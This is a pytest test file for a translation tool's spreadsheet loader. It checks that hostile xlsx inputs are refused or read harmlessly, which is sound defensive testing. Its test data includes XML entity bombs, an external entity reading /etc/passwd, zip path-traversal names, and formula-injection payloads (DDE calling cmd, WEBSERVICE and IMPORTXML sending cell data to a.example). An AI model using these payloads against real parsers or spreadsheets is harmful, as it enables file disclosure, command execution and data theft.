"""Sheets made to do harm: each is refused in words, or read without harm, in bounded time and memory."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from typing import TYPE_CHECKING

import pytest

from tests.bilingual.sheets import edited, make_run, repacked
from translate.bilingual import load_rows, table, tsv, workbook, xlsx
from translate.bilingual.rows import Row, row_of
from translate.errors import InputError
from translate.formats import guard, xml_events

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def with_part(name: str, change: Callable[[bytes], bytes]) -> bytes:
    return repacked(xlsx.dumps(make_run()), lambda found, content: change(content) if found == name else content)


def with_sheet(rows: str) -> bytes:
    content = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()
    return with_part(SHEET, lambda _: content)


def archive_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("declaration", [BOMB, OUTSIDE, " " * 5000 + BOMB])
@pytest.mark.parametrize("part", [SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml", "_rels/.rels"])
def test_entities_are_refused_wherever_they_are(part: str, declaration: str) -> None:
    data = with_part(part, lambda content: content.replace(b"?>", b"?>" + declaration.encode(), 1))
    with pytest.raises(InputError, match="declares a document type"):
        xlsx.loads(data, "x.xlsx")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_entities_in_another_encoding_are_refused_too(encoding: str) -> None:
    content = f'\ufeff<?xml version="1.0" encoding="UTF-16"?>{BOMB}<worksheet xmlns="{MAIN}"/>'.encode(encoding)
    with pytest.raises(InputError, match="declares a document type"):
        xlsx.loads(with_part(SHEET, lambda _: content), "x.xlsx")


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "empty file"),
        (b"id\tsource\ttarget\n", "not a valid xlsx"),
        (guard.OLE + b"x" * 600, "an old xls file or a password-protected xlsx"),
        (archive_of({"word/document.xml": b"<x/>"}), "not an xlsx workbook"),
        (archive_of({"xl/workbook.xml": b"<x/>"}), "not an xlsx workbook"),
        (archive_of({"../../evil": b"x"}), "name leads out"),
        (archive_of({"..\\evil": b"x"}), "name leads out"),
        (archive_of({"/etc/passwd": b"x"}), "name leads out"),
        (archive_of({"C:/evil": b"x"}), "name leads out"),
        (archive_of({f"{number}": b"" for number in range(guard.ENTRIES + 1)}), "entries, more than"),
        (archive_of({"xl/workbook.xml": b"<a>" + b" " * (100 * 2**20)}), "as a zip bomb does"),
    ],
)
def test_archives_that_are_no_workbooks(data: bytes, said: str) -> None:
    with pytest.raises(InputError, match=said) as caught:
        xlsx.loads(data, "x.xlsx")
    assert caught.value.problems[0].path == "x.xlsx"


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        ("<row><c/>" * 3, "not valid XML"),
        ('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>', "a cell's text is missing: string '99999'"),
        ('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>', "a cell's text is missing"),
        ('<row r="7"><c r="XFD7"><v>1</v></c></row>', "row 7 has something in column 16,384"),
        ("<row>" + "<c><v>1</v></c>" * 100_000 + "</row>", "column 501; 500 columns are read"),
        ("<a>" * 100 + "</a>" * 100, "nested more than 64 deep"),
    ],
)
def test_sheets_that_are_broken_or_too_wide(rows: str, said: str) -> None:
    with pytest.raises(InputError, match=said):
        xlsx.loads(with_sheet(rows), "x.xlsx")


HEADER = "<row>" + "".join(f"<c t='str'><v>{name}</v></c>" for name in ("id", "source", "target")) + "</row>"


def test_more_rows_than_a_person_reviews_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(table, "ROWS", 1_000)
    monkeypatch.setattr(workbook, "ROWS", 1_000)
    row = "<row><c t='str'><v>b1</v></c></row>"
    assert len(xlsx.loads(with_sheet(HEADER + row * 1_000), "x.xlsx")) == 1_000
    with pytest.raises(InputError, match="more rows than the 1,000"):
        xlsx.loads(with_sheet(HEADER + row * 1_001), "x.xlsx")
    with pytest.raises(InputError, match="more rows than the 2,000"):
        xlsx.loads(with_sheet(HEADER + row * 2_001), "x.xlsx")
    with pytest.raises(InputError, match="more rows than the 1,000"):
        tsv.loads(b"id\tsource\ttarget\n" + b"b1\tx\ty\n" * 1_001, "x.tsv")


def test_empty_rows_and_a_cell_at_the_far_end_cost_nothing() -> None:
    rows = HEADER + "<row/>" * 50_000 + '<row r="1048576"><c r="A1048576" t="str"><v>b1</v></c></row>'
    data = with_sheet(rows)
    tracemalloc.start()
    found = xlsx.loads(data, "x.xlsx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [row.id for row in found] == ["b1"]
    assert peak < 2 * 2**20


def test_one_long_string_named_by_every_cell_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "CHARACTERS", 1_000_000)
    strings = f'<sst xmlns="{MAIN}"><si><t>{"x" * 10_000}</t></si></sst>'.encode()
    cells = "<row>" + "<c t='s'><v>0</v></c>" * 101 + "</row>"
    data = repacked(with_sheet(cells), lambda name, content: strings if name == "xl/sharedStrings.xml" else content)
    with pytest.raises(InputError, match="more characters than the 1,000,000"):
        xlsx.loads(data, "x.xlsx")


def test_a_part_that_is_larger_than_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml_events, "PART_BYTES", 1_000_000)
    with pytest.raises(InputError, match="has more than the 1,000,000 bytes that are read"):
        xlsx.loads(with_sheet("<row/>" * 200_000), "x.xlsx")


def test_a_directory_that_lies_about_sizes_is_found_out() -> None:
    data = bytearray(with_sheet("<row/>" * 100_000))
    place = data.rindex(SHEET.encode()) - 46  # the entry in the central directory
    data[place + 24 : place + 28] = (1000).to_bytes(4, "little")
    with pytest.raises(InputError, match=r"not valid XML|is damaged"):
        xlsx.loads(bytes(data), "x.xlsx")


def test_links_that_lead_out_are_not_followed(monkeypatch: pytest.MonkeyPatch) -> None:
    def relations(content: bytes) -> bytes:
        link = (
            b'<Relationship Id="rId99" Type="http://x/externalLink" Target="http://a.example/" TargetMode="External"/>'
        )
        sheet = b'Target="worksheets/sheet1.xml"'
        return content.replace(b"</Relationships>", link + b"</Relationships>").replace(sheet, sheet)

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a connection was opened")

    monkeypatch.setattr("socket.socket.connect", refuse)
    data = with_part("xl/_rels/workbook.xml.rels", relations)
    assert xlsx.loads(data, "x.xlsx") == tuple(row_of(unit, "\n") for unit in make_run().units)
    outside = with_part(
        "xl/_rels/workbook.xml.rels",
        lambda content: content.replace(
            b'Target="worksheets/sheet1.xml"', b'Target="file:///etc/passwd" TargetMode="External"'
        ),
    )
    with pytest.raises(InputError, match="no aligned table"):
        xlsx.loads(outside, "x.xlsx")


@pytest.mark.parametrize(
    "formula",
    [
        "=HYPERLINK(\"http://a.example/?\"&A1,\"more\")",
        "=WEBSERVICE(\"http://a.example/\")",
        "=cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "='file:///etc/passwd'#$Sheet1.A1",
        "=[1]Sheet1!A1",
        "=$B$2",
        "=b2",
        "=IMPORTXML(CONCAT(\"http://a.example/\",A2),\"//a\")",
    ],
)  # fmt: skip
def test_formulas_that_fetch_or_copy_are_refused(formula: str) -> None:
    data = edited(xlsx.dumps(make_run()), cells={("b0002.s01", "reviewed"): formula})
    with pytest.raises(InputError, match="'reviewed' holds a formula"):
        xlsx.loads(data, "x.xlsx")


def test_what_is_hostile_in_a_document_is_text_in_the_sheet_and_stays_so() -> None:
    texts = tuple((formula, formula) for formula in ("=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "\t=1", "＝1"))
    data = xlsx.dumps(make_run(texts))
    rows = xlsx.loads(data, "x.xlsx")
    assert [(row.source, row.target) for row in rows[1:]] == list(texts)
    assert xlsx.loads(edited(data), "x.xlsx") == rows


def test_many_rows_are_read_in_time() -> None:
    rows = [Row(f"b{number}", "b", "paragraph", "好" * 30, "Good. " * 10) for number in range(4_000)]
    data = xlsx.dumps_rows(rows, make_run())
    began = time.process_time()
    assert len(xlsx.loads(data, "x.xlsx")) == len(rows)
    assert time.process_time() - began < 4  # measured: 0.5 s


def test_paths_that_are_no_files_and_names_that_say_another_format(tmp_path: Path) -> None:
    for name, content, said in (
        ("a.tsv", xlsx.dumps(make_run()), "name it .xlsx"),
        ("a.csv", guard.OLE, "a workbook or another office file"),
        ("a.ods", b"PK", "not a valid ods: its zip archive is broken"),
        ("a.xls", guard.OLE, "no aligned format 'xls'"),
    ):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(InputError, match=said):
            load_rows(tmp_path / name)
    (tmp_path / "b.xlsx").mkdir()
    with pytest.raises(InputError, match="a folder"):
        load_rows(tmp_path / "b.xlsx")
    with pytest.raises(InputError, match="no such file"):
        load_rows(tmp_path / "c.xlsx")
